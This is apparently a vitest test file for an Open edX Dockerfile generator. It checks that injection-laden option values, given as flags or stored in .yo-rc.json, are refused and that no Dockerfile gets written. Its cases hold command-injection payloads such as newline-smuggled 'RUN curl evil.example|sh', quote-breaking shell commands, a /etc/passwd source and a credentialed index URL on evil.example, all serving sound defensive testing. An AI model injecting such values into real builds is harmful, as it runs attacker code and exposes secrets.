import fs from 'fs-extra';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import helpers from 'yeoman-test';
import { describe, expect, it } from 'vitest';
import AppGenerator from '../../generators/app/index.js';
import NewrelicGenerator from '../../generators/newrelic/index.js';
import PrivateGenerator from '../../generators/private/index.js';
import { InvalidOptionError } from '../../src/errors.js';
import { copyFixtureRepo } from '../support/fixtures.js';

const GENERATORS = { app: AppGenerator, newrelic: NewrelicGenerator, private: PrivateGenerator };
type Name = keyof typeof GENERATORS;

/** Runs a generator on a copy of the standard fixture with `stored` as its .yo-rc.json; resolves to the error and the dir. */
async function failingRun(generator: Name, flags: Record<string, unknown>, stored?: Record<string, unknown>) {
  const dir = fs.mkdtempSync(join(tmpdir(), 'openedx-ida-inject-'));
  copyFixtureRepo('standard', dir);
  const yoRc = stored ? `${JSON.stringify({ 'generator-openedx-ida': stored })}\n` : null;
  if (yoRc) fs.writeFileSync(join(dir, '.yo-rc.json'), yoRc);
  const resolved = join(__dirname, '..', '..', 'generators', generator, 'index.ts');
  const error = await helpers
    .run(GENERATORS[generator] as never, { resolved, namespace: `openedx-ida:${generator}` })
    .cd(dir)
    .withOptions({ yes: true, ...flags } as never)
    .then(
      () => null,
      (caught: unknown) => caught,
    );
  return { error: error as Error | null, dir, yoRc };
}

/** Each hostile value: the generator, the flag (camelCase, as Yeoman passes it), its stored key and the value. */
const CASES: {
  name: string;
  generator: Name;
  flag: string;
  flagName: string;
  key: string;
  value: unknown;
  storedValue: unknown;
}[] = [
  {
    name: 'appDir with a newline adding a RUN line',
    generator: 'app',
    flag: 'appDir',
    flagName: '--app-dir',
    key: 'appDir',
    value: '/edx/app/x\nRUN curl evil.example|sh',
    storedValue: '/srv\nRUN touch /pwned',
  },
  {
    name: 'venvPath closing the quote',
    generator: 'app',
    flag: 'venvPath',
    flagName: '--venv-path',
    key: 'venvPath',
    value: '/opt/venv"; touch /pwned; "',
    storedValue: '/opt/venv"; id; "',
  },
  {
    name: 'private apt packages with a command',
    generator: 'private',
    flag: 'aptPackages',
    flagName: '--apt-packages',
    key: 'private.aptPackages',
    value: 'libmagic1 && curl evil.example|sh',
    storedValue: ['libmagic1\nRUN touch /pwned'],
  },
  {
    name: 'private pip packages with an option and credentials',
    generator: 'private',
    flag: 'pipPackages',
    flagName: '--pip-packages',
    key: 'private.pipPackages',
    value: 'plugin;curl${IFS}evil',
    storedValue: ['--index-url=https://user:token@evil.example/simple'],
  },
  {
    name: 'private index secret id with a source',
    generator: 'private',
    flag: 'indexSecret',
    flagName: '--index-secret',
    key: 'private.indexSecret',
    value: 'x,src=/etc/passwd',
    storedValue: 'pip_index_url\nRUN touch /pwned',
  },
  {
    name: 'base image with a newline',
    generator: 'private',
    flag: 'baseImage',
    flagName: '--base-image',
    key: 'baseImage',
    value: 'evil:tag\nRUN touch /pwned',
    storedValue: 'docker.io/openedx/x:main"\nRUN id',
  },
  {
    name: 'New Relic version with a command',
    generator: 'newrelic',
    flag: 'newrelicVersion',
    flagName: '--newrelic-version',
    key: 'newrelic.newrelicVersion',
    value: '9.13.0 && curl evil.example|sh',
    storedValue: '1\nRUN touch /pwned',
  },
  {
    name: 'private file naming the stored decisions',
    generator: 'private',
    flag: 'privateFile',
    flagName: '--private-file',
    key: 'private.file',
    value: '.yo-rc.json',
    storedValue: 'Dockerfile',
  },
  {
    name: 'New Relic file naming tool state',
    generator: 'newrelic',
    flag: 'newrelicFile',
    flagName: '--newrelic-file',
    key: 'newrelic.file',
    value: '.openedx-ida/facts.json',
    storedValue: '.dockerignore',
  },
];

/** A stored value at a dotted key. */
function storedAt(key: string, value: unknown): Record<string, unknown> {
  const [section, leaf] = key.split('.');
  return leaf ? { [section!]: { [leaf]: value } } : { [section!]: value };
}

function expectRefused(result: { error: Error | null; dir: string; yoRc: string | null }, ...mentions: string[]) {
  expect(result.error).toBeInstanceOf(InvalidOptionError);
  const line = (result.error as InvalidOptionError).oneLine;
  expect(line).not.toContain('\n');
  for (const mention of mentions) expect(line).toContain(mention);
  // Nothing written: no Dockerfile of any kind, .yo-rc.json as it was.
  expect(fs.readdirSync(result.dir).filter((file) => file.startsWith('Dockerfile'))).toEqual([]);
  expect(fs.existsSync(join(result.dir, '.openedx-ida'))).toBe(false);
  if (result.yoRc) expect(fs.readFileSync(join(result.dir, '.yo-rc.json'), 'utf8')).toBe(result.yoRc);
}

describe('hostile values never reach a Dockerfile', () => {
  it.each(CASES)('$name: refused as a flag, naming the flag', async ({ generator, flag, flagName, value }) => {
    expectRefused(await failingRun(generator, { [flag]: value }), flagName);
  });

  it.each(CASES)(
    '$name: refused from .yo-rc.json, naming the file, the key and the flag',
    async ({ generator, flagName, key, storedValue }) => {
      expectRefused(await failingRun(generator, {}, storedAt(key, storedValue)), flagName, '.yo-rc.json', key);
    },
  );

  it('app --private with a hostile apt package writes none of the app files either', async () => {
    const result = await failingRun('app', { private: true, newrelic: true, aptPackages: 'libmagic1;id' });
    expectRefused(result, '--apt-packages');
    expect(fs.existsSync(join(result.dir, '.dockerignore'))).toBe(false);
    expect(fs.existsSync(join(result.dir, '.yo-rc.json'))).toBe(false);
  });

  it('refuses stored operator values in an operator repo, naming the key', async () => {
    const dir = fs.mkdtempSync(join(tmpdir(), 'openedx-ida-inject-'));
    copyFixtureRepo('operator', dir);
    const operator = {
      baseImage: 'docker.io/openedx/x:main',
      service: 'x',
      port: 8000,
      wsgiApp: 'x.wsgi:application',
      appDir: '/edx/app/x\nUSER root',
    };
    fs.writeJsonSync(join(dir, '.yo-rc.json'), { 'generator-openedx-ida': { operator } });
    const resolved = join(__dirname, '..', '..', 'generators', 'newrelic', 'index.ts');
    const run = helpers
      .run(NewrelicGenerator as never, { resolved, namespace: 'openedx-ida:newrelic' })
      .cd(dir)
      .withOptions({ yes: true } as never);
    await expect(run).rejects.toThrow(/operator\.appDir in \.yo-rc\.json \(--app-dir\)/);
    expect(fs.existsSync(join(dir, 'Dockerfile.newrelic'))).toBe(false);
  });
});
